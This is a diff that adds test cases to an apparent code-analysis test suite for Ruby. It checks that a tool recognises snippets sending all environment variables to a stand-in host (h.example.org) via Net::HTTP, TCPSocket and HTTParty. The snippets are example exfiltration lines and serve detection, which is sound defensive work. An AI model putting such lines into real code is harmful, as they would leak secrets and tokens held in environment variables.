@@ -142,4 +142,17 @@ describe("ruby", () => {
       }),
     )
   })
+
+  const what = 'ENV.map { |k, v| "#{k}=#{v}" }.join'
+  it.each([
+    `Net::HTTP.post(URI("https://h.example.org/"), ${what})`,
+    `u = URI("https://h.example.org/")\nh = Net::HTTP.new(u.host, 443); r = Net::HTTP::Post.new(u); r.body = ${what}; h.request(r)`,
+    `Net::HTTP.start("h.example.org", 80) { |h| h.post("/", ${what}) }`,
+    `TCPSocket.new("h.example.org", 80).puts(${what})`,
+    `HTTParty.put("https://h.example.org/", body: { a: ENV.to_h })`,
+  ])("knows what it sends: %s", (text) =>
+    expect(acts(text).filter((act) => act.includes(" sends "))).toEqual([
+      expect.stringMatching(/connects "(?:https:\/\/)?h\.example\.org\/?" sends .*\$\*/),
+    ]),
+  )
 })
